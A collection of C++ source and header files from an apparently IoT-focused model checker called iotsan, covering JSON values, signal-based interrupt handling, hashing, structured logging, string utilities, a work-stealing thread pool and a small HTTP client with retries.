  bool is_number() const { return type_ == Type::kNumber; }
  bool is_string() const { return type_ == Type::kString; }
  bool is_array() const { return type_ == Type::kArray; }
  bool is_object() const { return type_ == Type::kObject; }

  /// Typed accessors; throw iotsan::Error on type mismatch.
  bool AsBool() const;
  double AsNumber() const;
  std::int64_t AsInt() const;
  const std::string& AsString() const;
  const Array& AsArray() const;
  const Object& AsObject() const;
  Array& MutableArray();
  Object& MutableObject();

  /// Object member lookup; throws if not an object or key missing.
  const Value& At(std::string_view key) const;
  /// True if this is an object containing `key`.
  bool Has(std::string_view key) const;
  /// Returns the member or `fallback` if absent.
  const Value& GetOr(std::string_view key, const Value& fallback) const;

  /// Convenience getters with defaults, for config parsing.
  std::string GetString(std::string_view key, std::string_view dflt = "") const;
  double GetNumber(std::string_view key, double dflt = 0) const;
  bool GetBool(std::string_view key, bool dflt = false) const;

  /// Serializes this value.  `indent` 0 emits compact JSON; otherwise
  /// pretty-printed with that many spaces per level.
  std::string Dump(int indent = 0) const;

  bool operator==(const Value& other) const;

 private:
  Type type_;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  std::shared_ptr<Array> array_;
  std::shared_ptr<Object> object_;

  void CopyFrom(const Value& other);
  void DumpTo(std::string& out, int indent, int depth) const;
};

/// Parses `text` into a Value.  Throws iotsan::ParseError with
/// line/column context on malformed input.
Value Parse(std::string_view text);

}  // namespace iotsan::json
