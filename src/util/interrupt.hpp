// Cooperative SIGINT/SIGTERM handling for long-running commands.
//
// The handler does the only async-signal-safe thing — it sets a
// process-wide atomic flag — and the long-running layers poll it:
// the checker between cascade drains (checker::CheckOptions::interrupt),
// the server's acceptor/session loops between polls.  That turns an
// interrupt into an orderly wind-down: partial reports are still
// rendered, violation artifacts written, and the telemetry TraceSink
// flushed through its destructor, instead of the process dying with a
// JSONL line truncated mid-write.
//
// A second SIGINT/SIGTERM while the flag is already set hard-exits
// (128 + signal), so a wedged drain can always be escaped.
#pragma once

#include <atomic>

namespace iotsan::util {

/// Installs the SIGINT/SIGTERM handlers (idempotent) and returns the
/// flag they set.  Call once at the top of a long-running command.
const std::atomic<bool>& InstallInterruptHandlers();

/// The flag itself, for layers that only poll (never install).
const std::atomic<bool>& InterruptFlag();

/// True once a handled signal arrived.
bool InterruptRequested();

/// The signal that set the flag (0 = none yet).
int InterruptSignal();

/// Conventional exit status for a run that was interrupted but wound
/// down cleanly: 128 + the signal number (130 for SIGINT).
int InterruptExitCode();

/// Clears the flag (tests; a server draining one listener generation).
void ResetInterruptFlag();

/// Installs a SIGHUP handler (idempotent) that sets a rotate-request
/// flag instead of killing the process — the conventional log-rotation
/// signal.  The server polls TakeRotateRequest() between accepts and
/// reopens its access log when it fires.
void InstallRotateHandler();

/// True once per SIGHUP since the last call (consume semantics).
bool TakeRotateRequest();

}  // namespace iotsan::util
