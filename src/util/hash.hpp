// Hashing primitives used by the model checker's state stores.
//
// The checker hashes serialized state vectors.  The exhaustive store uses
// Fnv1a64; the BITSTATE store (Spin's approximate verification mode, paper
// §2.3) derives k independent bit positions from one 64-bit seed hash via
// SplitMix64 remixing, the standard double-hashing construction for Bloom
// filters.
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <string_view>

namespace iotsan::hash {

/// 64-bit FNV-1a over raw bytes.
std::uint64_t Fnv1a64(std::span<const std::uint8_t> bytes);

/// 64-bit FNV-1a over a string.
std::uint64_t Fnv1a64(std::string_view s);

/// SplitMix64 finalizer; a strong 64-bit mixing function.
std::uint64_t SplitMix64(std::uint64_t x);

/// The (h1, h2) pair behind NthHash, exposed so hot loops derive the two
/// hashes once per key and step h1 + i*h2 per probe (Kirsch-Mitzenmacher)
/// instead of remixing the base hash for every probe.
struct DoubleHash {
  std::uint64_t h1 = 0;
  std::uint64_t h2 = 1;
  std::uint64_t Nth(unsigned i) const {
    return h1 + static_cast<std::uint64_t>(i) * h2;
  }
};
DoubleHash MakeDoubleHash(std::uint64_t base);

/// Derives the i-th hash for a k-hash Bloom filter from a base hash,
/// using the Kirsch-Mitzenmacher double-hashing scheme.  Equivalent to
/// MakeDoubleHash(base).Nth(i).
std::uint64_t NthHash(std::uint64_t base, unsigned i);

/// Streaming FNV-1a accumulator for composite fingerprints (the
/// incremental-analysis cache keys, src/cache).  Every Mix overload is
/// length- or width-delimited and byte-order-fixed (little endian), so
/// digests are stable across platforms and field concatenations cannot
/// alias ("ab"+"c" != "a"+"bc").
class Fnv1a64Stream {
 public:
  /// Raw bytes, NOT length-delimited (compose with Mix(uint64) when
  /// framing matters).
  Fnv1a64Stream& MixBytes(std::span<const std::uint8_t> bytes);
  /// Length-prefixed string: mixes the 64-bit length, then the bytes.
  Fnv1a64Stream& Mix(std::string_view s);
  /// 8 little-endian bytes.
  Fnv1a64Stream& Mix(std::uint64_t v);
  Fnv1a64Stream& Mix(bool v) { return Mix(std::uint64_t{v ? 1u : 0u}); }
  /// The IEEE-754 bit pattern (canonicalizing -0.0 to 0.0).
  Fnv1a64Stream& Mix(double v);

  std::uint64_t digest() const { return h_; }
  /// The digest as 16 lowercase hex digits (cache file names).
  std::string Hex() const;

 private:
  std::uint64_t h_ = 0xcbf29ce484222325ULL;  // FNV-1a offset basis
};

}  // namespace iotsan::hash
