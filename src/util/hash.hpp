// Hashing primitives used by the model checker's state stores.
//
// The checker hashes serialized state vectors.  The exhaustive store uses
// Fnv1a64; the BITSTATE store (Spin's approximate verification mode, paper
// §2.3) derives k independent bit positions from one 64-bit seed hash via
// SplitMix64 remixing, the standard double-hashing construction for Bloom
// filters.
#pragma once

#include <cstdint>
#include <span>
#include <string_view>

namespace iotsan::hash {

/// 64-bit FNV-1a over raw bytes.
std::uint64_t Fnv1a64(std::span<const std::uint8_t> bytes);

/// 64-bit FNV-1a over a string.
std::uint64_t Fnv1a64(std::string_view s);

/// SplitMix64 finalizer; a strong 64-bit mixing function.
std::uint64_t SplitMix64(std::uint64_t x);

/// Derives the i-th hash for a k-hash Bloom filter from a base hash,
/// using the Kirsch-Mitzenmacher double-hashing scheme.
std::uint64_t NthHash(std::uint64_t base, unsigned i);

}  // namespace iotsan::hash
