// Structured, leveled logging for the long-running layers.
//
// One process-global sink with a level threshold, shared by the
// checker's diagnostics, the cache, and the HTTP service.  Design
// goals, in order:
//   * lock-cheap — `Enabled(level)` is a single relaxed atomic load,
//     so a suppressed log call costs one branch; an emitted line is
//     formatted entirely off-lock and written with one locked write,
//     so concurrent loggers never interleave characters.
//   * structured — every line carries a level, a component ("checker",
//     "server", ...), a message, and optional typed fields; the sink
//     renders either the human text form or one JSON object per line
//     (JSONL), switchable at startup (`iotsan serve --log-json`).
//   * request-id-aware — a field named "request_id" is how server-side
//     lines join the access log, spans, and violation artifacts; the
//     helpers below make passing it uniform.
//
// The CLI's own operator surface (usage errors, progress lines, the
// check report) intentionally does NOT route through here: its exact
// bytes are part of the contract.  This sink is for diagnostics.
#pragma once

#include <atomic>
#include <cstdint>
#include <cstdio>
#include <initializer_list>
#include <string>
#include <string_view>

namespace iotsan::util {

enum class LogLevel : int {
  kDebug = 0,
  kInfo = 1,
  kWarn = 2,
  kError = 3,
  kOff = 4,  // threshold-only: suppresses everything
};

/// "debug", "info", "warn", "error" (what the JSON form emits).
const char* LogLevelName(LogLevel level);

/// Parses a `--log-level` value; false on anything unknown.
bool ParseLogLevel(std::string_view text, LogLevel& out);

/// One typed key/value attached to a log line.  Keys and string values
/// must outlive the Log() call (string literals and locals both do).
struct LogField {
  enum class Kind { kString, kInt, kUint, kDouble, kBool };
  std::string_view key;
  Kind kind = Kind::kString;
  std::string_view str;
  std::int64_t i = 0;
  std::uint64_t u = 0;
  double d = 0;
  bool b = false;

  LogField(std::string_view k, std::string_view v)
      : key(k), kind(Kind::kString), str(v) {}
  LogField(std::string_view k, const char* v)
      : key(k), kind(Kind::kString), str(v) {}
  LogField(std::string_view k, const std::string& v)
      : key(k), kind(Kind::kString), str(v) {}
  LogField(std::string_view k, std::int64_t v)
      : key(k), kind(Kind::kInt), i(v) {}
  LogField(std::string_view k, int v)
      : key(k), kind(Kind::kInt), i(v) {}
  LogField(std::string_view k, std::uint64_t v)
      : key(k), kind(Kind::kUint), u(v) {}
  LogField(std::string_view k, double v)
      : key(k), kind(Kind::kDouble), d(v) {}
  LogField(std::string_view k, bool v)
      : key(k), kind(Kind::kBool), b(v) {}
};

/// The emission threshold (default kWarn, so library code can warn
/// without the CLI opting in, and info/debug stay silent until asked).
void SetLogLevel(LogLevel level);
LogLevel GetLogLevel();

/// True when a line at `level` would be emitted — the one branch a
/// suppressed call site pays.
bool LogEnabled(LogLevel level);

/// Switches the line format: human text (default) or JSONL.
void SetLogJson(bool json);

/// Redirects output (default stderr).  Passing nullptr restores stderr.
/// The stream is borrowed, never closed.
void SetLogStream(std::FILE* stream);

/// Emits one line: level + component + message + fields.  Thread-safe;
/// each call produces exactly one complete line.
void Log(LogLevel level, std::string_view component,
         std::string_view message,
         std::initializer_list<LogField> fields = {});

inline void LogDebug(std::string_view component, std::string_view message,
                     std::initializer_list<LogField> fields = {}) {
  if (LogEnabled(LogLevel::kDebug)) {
    Log(LogLevel::kDebug, component, message, fields);
  }
}
inline void LogInfo(std::string_view component, std::string_view message,
                    std::initializer_list<LogField> fields = {}) {
  if (LogEnabled(LogLevel::kInfo)) {
    Log(LogLevel::kInfo, component, message, fields);
  }
}
inline void LogWarn(std::string_view component, std::string_view message,
                    std::initializer_list<LogField> fields = {}) {
  if (LogEnabled(LogLevel::kWarn)) {
    Log(LogLevel::kWarn, component, message, fields);
  }
}
inline void LogError(std::string_view component, std::string_view message,
                     std::initializer_list<LogField> fields = {}) {
  if (LogEnabled(LogLevel::kError)) {
    Log(LogLevel::kError, component, message, fields);
  }
}

}  // namespace iotsan::util
