// Small string utilities used throughout iotsan.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace iotsan::strings {

/// Removes leading and trailing ASCII whitespace.
std::string_view Trim(std::string_view s);

/// Splits `s` on `sep`, keeping empty fields.
std::vector<std::string> Split(std::string_view s, char sep);

/// Splits `s` on `sep`, trimming each field and dropping empty fields.
std::vector<std::string> SplitTrimmed(std::string_view s, char sep);

/// Joins `parts` with `sep` between elements.
std::string Join(const std::vector<std::string>& parts, std::string_view sep);

/// True if `s` starts with `prefix`.
bool StartsWith(std::string_view s, std::string_view prefix);

/// True if `s` ends with `suffix`.
bool EndsWith(std::string_view s, std::string_view suffix);

/// ASCII lower-casing.
std::string ToLower(std::string_view s);

/// Replaces every occurrence of `from` with `to`.
std::string ReplaceAll(std::string_view s, std::string_view from,
                       std::string_view to);

/// True if `s` consists only of [A-Za-z0-9_] and starts with a letter or '_'.
bool IsIdentifier(std::string_view s);

/// Formats a double trimming trailing zeros ("75", "2.5").
std::string FormatNumber(double value);

/// Pads `s` on the right with spaces to at least `width` columns.
std::string PadRight(std::string_view s, std::size_t width);

/// Pads `s` on the left with spaces to at least `width` columns.
std::string PadLeft(std::string_view s, std::size_t width);

}  // namespace iotsan::strings
