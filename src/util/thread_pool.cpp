#include "util/thread_pool.hpp"

#include <chrono>
#include <exception>

namespace iotsan::util {

namespace {

// Which pool (if any) the current thread is a dedicated worker of, and
// on which lane.  External threads fall through to lane 0.
thread_local const ThreadPool* tls_pool = nullptr;
thread_local unsigned tls_lane = 0;

std::atomic<PoolTimingHook> g_on_task_run{nullptr};
std::atomic<PoolTimingHook> g_on_steal_wait{nullptr};

std::uint64_t ElapsedMicros(std::chrono::steady_clock::time_point start) {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - start)
          .count());
}

// Executes one task body, timing it when a run hook is installed.
void RunTimed(const std::function<void()>& task) {
  const PoolTimingHook hook = g_on_task_run.load(std::memory_order_acquire);
  if (hook == nullptr) {
    task();
    return;
  }
  const auto start = std::chrono::steady_clock::now();
  task();
  hook(ElapsedMicros(start));
}

}  // namespace

void SetPoolTimingHooks(PoolTimingHook on_task_run,
                        PoolTimingHook on_steal_wait) {
  g_on_task_run.store(on_task_run, std::memory_order_release);
  g_on_steal_wait.store(on_steal_wait, std::memory_order_release);
}

unsigned ResolveJobs(int jobs) {
  if (jobs < 0) return 1;
  if (jobs == 0) {
    const unsigned hw = std::thread::hardware_concurrency();
    return hw == 0 ? 1 : hw;
  }
  return static_cast<unsigned>(jobs);
}

ThreadPool::ThreadPool(unsigned jobs) : jobs_(jobs == 0 ? 1 : jobs) {
  lanes_.reserve(jobs_);
  for (unsigned i = 0; i < jobs_; ++i) {
    lanes_.push_back(std::make_unique<Lane>());
  }
  threads_.reserve(jobs_ - 1);
  for (unsigned i = 1; i < jobs_; ++i) {
    threads_.emplace_back([this, i] { WorkerMain(i); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(wake_mutex_);
    stop_.store(true);
  }
  wake_cv_.notify_all();
  for (std::thread& t : threads_) t.join();
}

unsigned ThreadPool::CurrentLane() const {
  return tls_pool == this ? tls_lane : 0;
}

ThreadPool::Stats ThreadPool::stats() const {
  return {tasks_run_.load(), tasks_stolen_.load()};
}

void ThreadPool::Push(unsigned lane, std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(lanes_[lane]->mutex);
    lanes_[lane]->tasks.push_back(std::move(task));
  }
  pending_.fetch_add(1, std::memory_order_relaxed);
  wake_cv_.notify_one();
}

std::function<void()> ThreadPool::TryGet(unsigned lane) {
  {
    Lane& own = *lanes_[lane];
    std::lock_guard<std::mutex> lock(own.mutex);
    if (!own.tasks.empty()) {
      std::function<void()> task = std::move(own.tasks.back());
      own.tasks.pop_back();
      pending_.fetch_sub(1, std::memory_order_relaxed);
      tasks_run_.fetch_add(1, std::memory_order_relaxed);
      return task;
    }
  }
  for (unsigned k = 1; k < jobs_; ++k) {
    Lane& victim = *lanes_[(lane + k) % jobs_];
    std::lock_guard<std::mutex> lock(victim.mutex);
    if (!victim.tasks.empty()) {
      std::function<void()> task = std::move(victim.tasks.front());
      victim.tasks.pop_front();
      pending_.fetch_sub(1, std::memory_order_relaxed);
      tasks_run_.fetch_add(1, std::memory_order_relaxed);
      tasks_stolen_.fetch_add(1, std::memory_order_relaxed);
      return task;
    }
  }
  return nullptr;
}

void ThreadPool::WorkerMain(unsigned lane) {
  tls_pool = this;
  tls_lane = lane;
  // Steal-wait: the gap between first failing to get a task and obtaining
  // the next one.  Workers that never get another task record nothing.
  bool waiting = false;
  std::chrono::steady_clock::time_point wait_start{};
  while (true) {
    if (std::function<void()> task = TryGet(lane)) {
      if (waiting) {
        waiting = false;
        if (const PoolTimingHook hook =
                g_on_steal_wait.load(std::memory_order_acquire)) {
          hook(ElapsedMicros(wait_start));
        }
      }
      RunTimed(task);
      continue;
    }
    if (!waiting &&
        g_on_steal_wait.load(std::memory_order_acquire) != nullptr) {
      waiting = true;
      wait_start = std::chrono::steady_clock::now();
    }
    std::unique_lock<std::mutex> lock(wake_mutex_);
    if (stop_.load()) return;
    wake_cv_.wait_for(lock, std::chrono::milliseconds(1), [this] {
      return stop_.load() || pending_.load(std::memory_order_relaxed) > 0;
    });
    if (stop_.load()) return;
  }
}

void ThreadPool::ParallelFor(std::size_t count,
                             const std::function<void(std::size_t)>& body) {
  if (count == 0) return;
  const unsigned self = CurrentLane();
  if (jobs_ == 1 || count == 1) {
    for (std::size_t i = 0; i < count; ++i) body(i);
    return;
  }

  struct Batch {
    std::atomic<std::size_t> remaining;
    std::mutex mutex;
    std::condition_variable done_cv;
    std::exception_ptr error;
  };
  auto batch = std::make_shared<Batch>();
  batch->remaining.store(count);

  for (std::size_t i = 0; i < count; ++i) {
    // Spread tasks round-robin over all lanes so every worker has local
    // work before stealing kicks in; `body` outlives the batch because
    // this call blocks until remaining == 0.
    auto task = [batch, &body, i] {
      try {
        body(i);
      } catch (...) {
        std::lock_guard<std::mutex> lock(batch->mutex);
        if (!batch->error) batch->error = std::current_exception();
      }
      if (batch->remaining.fetch_sub(1) == 1) {
        std::lock_guard<std::mutex> lock(batch->mutex);
        batch->done_cv.notify_all();
      }
    };
    Push((self + i) % jobs_, std::move(task));
  }

  // Help until this batch drains.  Tasks popped here may belong to a
  // different concurrent batch — executing them is exactly what keeps
  // nested ParallelFor calls from deadlocking on a saturated pool.
  while (batch->remaining.load() != 0) {
    if (std::function<void()> task = TryGet(self)) {
      RunTimed(task);
      continue;
    }
    std::unique_lock<std::mutex> lock(batch->mutex);
    batch->done_cv.wait_for(lock, std::chrono::microseconds(200), [&] {
      return batch->remaining.load() == 0;
    });
  }
  if (batch->error) std::rethrow_exception(batch->error);
}

}  // namespace iotsan::util
