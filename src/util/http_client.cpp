#include "util/http_client.hpp"

#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <cerrno>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <thread>

namespace iotsan::util {

namespace {

/// Owns the fd for exception-safe cleanup.
struct Fd {
  int fd = -1;
  Fd() = default;
  Fd(Fd&& other) noexcept : fd(other.fd) { other.fd = -1; }
  Fd(const Fd&) = delete;
  Fd& operator=(const Fd&) = delete;
  Fd& operator=(Fd&&) = delete;
  ~Fd() {
    if (fd >= 0) ::close(fd);
  }
};

bool TransientErrno(int err) {
  return err == ECONNREFUSED || err == ECONNRESET || err == EPIPE ||
         err == ETIMEDOUT || err == EHOSTUNREACH || err == ENETUNREACH ||
         err == EAGAIN || err == EINTR;
}

[[noreturn]] void Fail(const std::string& what, int err) {
  throw HttpError("http: " + what + ": " + std::strerror(err),
                  TransientErrno(err));
}

/// Waits for `events` on `fd` for up to `timeout_ms`; throws a
/// transient HttpError on timeout (a retry against a recovered server
/// can cure it) or poll failure.
void WaitFor(int fd, short events, int timeout_ms, const char* phase) {
  struct pollfd pfd = {};
  pfd.fd = fd;
  pfd.events = events;
  const int rc = ::poll(&pfd, 1, timeout_ms);
  if (rc == 0) {
    throw HttpError(std::string("http: ") + phase + " timed out after " +
                        std::to_string(timeout_ms) + "ms",
                    true);
  }
  if (rc < 0) Fail(std::string(phase) + " poll failed", errno);
}

Fd ConnectWithTimeout(const std::string& host, int port,
                      const HttpClientConfig& config) {
  struct addrinfo hints = {};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  hints.ai_flags = AI_NUMERICSERV;
  struct addrinfo* results = nullptr;
  const int gai = ::getaddrinfo(host.c_str(), std::to_string(port).c_str(),
                                &hints, &results);
  if (gai != 0) {
    throw HttpError("http: cannot resolve '" + host +
                        "': " + ::gai_strerror(gai),
                    gai == EAI_AGAIN);
  }
  std::string last_error = "no addresses";
  bool last_transient = false;
  for (struct addrinfo* ai = results; ai != nullptr; ai = ai->ai_next) {
    Fd sock;
    sock.fd = ::socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
    if (sock.fd < 0) continue;
    ::fcntl(sock.fd, F_SETFL, O_NONBLOCK);
    if (::connect(sock.fd, ai->ai_addr, ai->ai_addrlen) != 0) {
      if (errno != EINPROGRESS) {
        last_error = std::strerror(errno);
        last_transient = TransientErrno(errno);
        continue;
      }
      try {
        WaitFor(sock.fd, POLLOUT, config.connect_timeout_ms, "connect");
      } catch (const HttpError& e) {
        last_error = e.what();
        last_transient = e.transient();
        continue;
      }
      int err = 0;
      socklen_t len = sizeof err;
      ::getsockopt(sock.fd, SOL_SOCKET, SO_ERROR, &err, &len);
      if (err != 0) {
        last_error = std::strerror(err);
        last_transient = TransientErrno(err);
        continue;
      }
    }
    ::freeaddrinfo(results);
    return sock;
  }
  ::freeaddrinfo(results);
  throw HttpError("http: cannot connect to " + host + ":" +
                      std::to_string(port) + " (" + last_error + ")",
                  last_transient);
}

void SendAll(int fd, const std::string& data, int timeout_ms) {
  std::size_t sent = 0;
  while (sent < data.size()) {
    const ssize_t n =
        ::send(fd, data.data() + sent, data.size() - sent, MSG_NOSIGNAL);
    if (n > 0) {
      sent += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      WaitFor(fd, POLLOUT, timeout_ms, "send");
      continue;
    }
    Fail("send failed", n < 0 ? errno : EPIPE);
  }
}

}  // namespace

HttpResponse HttpCall(const std::string& host, int port,
                      const std::string& method, const std::string& path,
                      const std::string& body,
                      const std::vector<std::string>& headers,
                      const HttpClientConfig& config) {
  Fd sock = ConnectWithTimeout(host, port, config);

  std::string request = method + " " + path + " HTTP/1.1\r\nHost: " + host +
                        "\r\nConnection: close\r\n";
  for (const std::string& header : headers) {
    request += header + "\r\n";
  }
  if (!body.empty() || method == "POST" || method == "PUT") {
    request += "Content-Type: application/json\r\nContent-Length: " +
               std::to_string(body.size()) + "\r\n";
  }
  request += "\r\n" + body;
  SendAll(sock.fd, request, config.read_timeout_ms);

  // Read until the headers are complete, then exactly Content-Length
  // more bytes (or EOF when the server omits the length).  Every recv
  // is preceded by a bounded poll: a mid-body stall fails instead of
  // blocking forever.
  std::string data;
  std::size_t head_end = std::string::npos;
  std::size_t body_expected = std::string::npos;  // npos = read to EOF
  char chunk[4096];
  while (true) {
    WaitFor(sock.fd, POLLIN, config.read_timeout_ms, "read");
    const ssize_t n = ::recv(sock.fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) continue;
      Fail("recv failed", errno);
    }
    if (n == 0) break;  // server closed the connection
    data.append(chunk, static_cast<std::size_t>(n));
    if (data.size() > config.max_response_bytes) {
      throw HttpError("http: response exceeds " +
                          std::to_string(config.max_response_bytes) +
                          " bytes",
                      false);
    }
    if (head_end == std::string::npos) {
      head_end = data.find("\r\n\r\n");
      if (head_end != std::string::npos) {
        // Case-insensitive Content-Length scan over the header block.
        std::string lower = data.substr(0, head_end);
        for (char& c : lower) c = static_cast<char>(std::tolower(c));
        const std::size_t pos = lower.find("content-length:");
        if (pos != std::string::npos) {
          body_expected = static_cast<std::size_t>(
              std::strtoull(data.c_str() + pos + 15, nullptr, 10));
        }
      }
    }
    if (head_end != std::string::npos && body_expected != std::string::npos &&
        data.size() - head_end - 4 >= body_expected) {
      break;  // full body in hand: no need to wait for the close
    }
  }

  if (head_end == std::string::npos) head_end = data.find("\r\n\r\n");
  if (head_end == std::string::npos || data.rfind("HTTP/1.1 ", 0) != 0) {
    throw HttpError("http: malformed HTTP response", false);
  }
  HttpResponse out;
  out.status = std::atoi(data.c_str() + 9);
  out.body = data.substr(head_end + 4);
  if (body_expected != std::string::npos && out.body.size() > body_expected) {
    out.body.resize(body_expected);
  }
  return out;
}

int BackoffDelayMs(const RetryPolicy& policy, int attempt, Rng& rng) {
  // Full jitter (AWS-style): uniform over [0, capped exponential
  // window].  Decorrelates a herd of clients retrying the same dead
  // worker.
  std::int64_t window = policy.base_delay_ms;
  for (int i = 1; i < attempt && window < policy.max_delay_ms; ++i) {
    window *= 2;
  }
  window = std::min<std::int64_t>(window, policy.max_delay_ms);
  if (window <= 0) return 0;
  return static_cast<int>(
      rng.NextBelow(static_cast<std::uint64_t>(window) + 1));
}

HttpResponse HttpCallWithRetry(
    const RetryPolicy& policy, const std::function<HttpResponse()>& call,
    const std::function<void(int, int, const std::string&)>& on_retry) {
  Rng rng(policy.jitter_seed == 0 ? 1 : policy.jitter_seed);
  const int attempts = std::max(policy.max_attempts, 1);
  for (int attempt = 1;; ++attempt) {
    try {
      return call();
    } catch (const HttpError& e) {
      if (!e.transient() || attempt >= attempts) throw;
      const int delay_ms = BackoffDelayMs(policy, attempt, rng);
      if (on_retry) on_retry(attempt, delay_ms, e.what());
      std::this_thread::sleep_for(std::chrono::milliseconds(delay_ms));
    }
  }
}

}  // namespace iotsan::util
