#include "util/interrupt.hpp"

#include <csignal>
#include <cstdlib>
#include <unistd.h>

namespace iotsan::util {

namespace {

std::atomic<bool> g_interrupted{false};
// sig_atomic_t per POSIX; only ever a small signal number.
volatile std::sig_atomic_t g_signal = 0;

extern "C" void HandleInterrupt(int signum) {
  if (g_interrupted.exchange(true, std::memory_order_relaxed)) {
    // Second signal: the cooperative wind-down is not finishing fast
    // enough for the operator — exit now (async-signal-safe _exit).
    _exit(128 + signum);
  }
  g_signal = signum;
}

std::atomic<bool> g_rotate_requested{false};

extern "C" void HandleRotate(int) {
  g_rotate_requested.store(true, std::memory_order_relaxed);
}

}  // namespace

const std::atomic<bool>& InstallInterruptHandlers() {
  struct sigaction action = {};
  action.sa_handler = HandleInterrupt;
  sigemptyset(&action.sa_mask);
  action.sa_flags = 0;  // no SA_RESTART: blocking accept/read return EINTR
  sigaction(SIGINT, &action, nullptr);
  sigaction(SIGTERM, &action, nullptr);
  // A peer closing its socket mid-response must not kill the server.
  signal(SIGPIPE, SIG_IGN);
  return g_interrupted;
}

const std::atomic<bool>& InterruptFlag() { return g_interrupted; }

bool InterruptRequested() {
  return g_interrupted.load(std::memory_order_relaxed);
}

int InterruptSignal() { return static_cast<int>(g_signal); }

int InterruptExitCode() { return 128 + InterruptSignal(); }

void ResetInterruptFlag() {
  g_signal = 0;
  g_interrupted.store(false, std::memory_order_relaxed);
}

void InstallRotateHandler() {
  struct sigaction action = {};
  action.sa_handler = HandleRotate;
  sigemptyset(&action.sa_mask);
  // SA_RESTART: a rotation request must not abort a blocking accept —
  // the flag is polled on the acceptor's normal cadence.
  action.sa_flags = SA_RESTART;
  sigaction(SIGHUP, &action, nullptr);
}

bool TakeRotateRequest() {
  return g_rotate_requested.exchange(false, std::memory_order_relaxed);
}

}  // namespace iotsan::util
