// A small work-stealing thread pool for the parallel search layers.
//
// Design goals, in order:
//   * Nestable fork/join — Sanitizer::Check fans related sets across the
//     pool, each group's checker fans its root (event × failure)
//     branches across the *same* pool, and attribution fans
//     configurations one level above both.  ParallelFor may therefore be
//     called from inside a pool task; the caller always helps execute
//     tasks while it waits, so composing the three layers over one pool
//     never oversubscribes or deadlocks.
//   * Determinism support, not determinism itself — the pool makes no
//     ordering promises.  Callers that need deterministic output (the
//     checker does) index their results by task id and merge in task
//     order after the join.
//   * Zero dependencies — util sits below telemetry, so the pool exposes
//     plain Stats that callers feed into telemetry themselves.  Timing
//     distributions cross the layer boundary the other way: telemetry
//     installs plain function pointers via SetPoolTimingHooks and the
//     pool calls them with microsecond durations, never including a
//     telemetry header.
//
// Topology: one deque ("lane") per worker plus lane 0 for the owning
// thread.  An owner pushes and pops its own lane LIFO (good locality for
// nested joins); idle workers steal FIFO from the other end.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

namespace iotsan::util {

/// Resolves a user-facing `--jobs` value: 0 = one lane per hardware
/// thread, negative or 1 = serial, otherwise the value itself.
unsigned ResolveJobs(int jobs);

/// Observer for pool timing distributions, called with a duration in
/// microseconds.  Must be safe to call from any pool thread.
using PoolTimingHook = void (*)(std::uint64_t micros);

/// Installs process-wide timing hooks: `on_task_run` fires once per
/// executed task body, `on_steal_wait` once per idle gap a worker spends
/// between failing to get a task and obtaining the next one.  Either may
/// be nullptr to disable that measurement.  Hooks are read with acquire
/// loads on the hot path; install/uninstall only between runs (the same
/// contract as telemetry::SetActive, which is the expected caller).
void SetPoolTimingHooks(PoolTimingHook on_task_run,
                        PoolTimingHook on_steal_wait);

class ThreadPool {
 public:
  /// Creates `jobs` lanes: lane 0 belongs to the constructing/calling
  /// thread, lanes 1..jobs-1 get a dedicated worker thread each.
  /// `jobs` is clamped to >= 1 (a 1-lane pool runs everything inline).
  explicit ThreadPool(unsigned jobs);
  ~ThreadPool();
  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  /// Number of lanes (worker threads + the caller's lane).
  unsigned jobs() const { return jobs_; }

  /// Lane index of the calling thread: its own lane for pool workers,
  /// 0 for every external thread (including the owner).
  unsigned CurrentLane() const;

  struct Stats {
    std::uint64_t tasks_run = 0;     // bodies executed
    std::uint64_t tasks_stolen = 0;  // executed on a lane != push lane
  };
  Stats stats() const;

  /// Runs `body(0..count-1)`, each index exactly once, potentially in
  /// parallel, and returns when all have completed.  The calling thread
  /// participates (and may execute tasks of unrelated concurrent
  /// batches while it waits — that is what makes nesting safe).  The
  /// first exception thrown by any body is rethrown here after the
  /// join; remaining bodies still run.
  void ParallelFor(std::size_t count,
                   const std::function<void(std::size_t)>& body);

 private:
  struct Lane {
    std::mutex mutex;
    std::deque<std::function<void()>> tasks;
  };

  void WorkerMain(unsigned lane);
  void Push(unsigned lane, std::function<void()> task);
  /// Pops from the calling lane (LIFO) or steals from another (FIFO).
  std::function<void()> TryGet(unsigned lane);

  unsigned jobs_;
  std::vector<std::unique_ptr<Lane>> lanes_;
  std::vector<std::thread> threads_;
  std::mutex wake_mutex_;
  std::condition_variable wake_cv_;
  std::atomic<bool> stop_{false};
  std::atomic<std::uint64_t> pending_{0};
  std::atomic<std::uint64_t> tasks_run_{0};
  std::atomic<std::uint64_t> tasks_stolen_{0};
};

}  // namespace iotsan::util
