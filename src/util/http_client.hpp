// Minimal blocking HTTP/1.1 client shared by the CLI tools (iotsan top,
// iotsan fleet) and the cluster coordinator (src/cluster).
//
// Promoted out of tools/iotsan_cli.cpp where two near-identical copies
// of a loopback-only client lived.  This one resolves hostnames (not
// just numeric IPv4), bounds every phase with a timeout — connect,
// send, and each read — so a server that stalls mid-body can no longer
// hang the caller, and caps the response size.  Errors carry a
// `transient` bit that separates "retry may cure this" (refused
// connection, reset, timeout) from protocol errors, which is what the
// retry helper keys on.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "util/error.hpp"
#include "util/rng.hpp"

namespace iotsan::util {

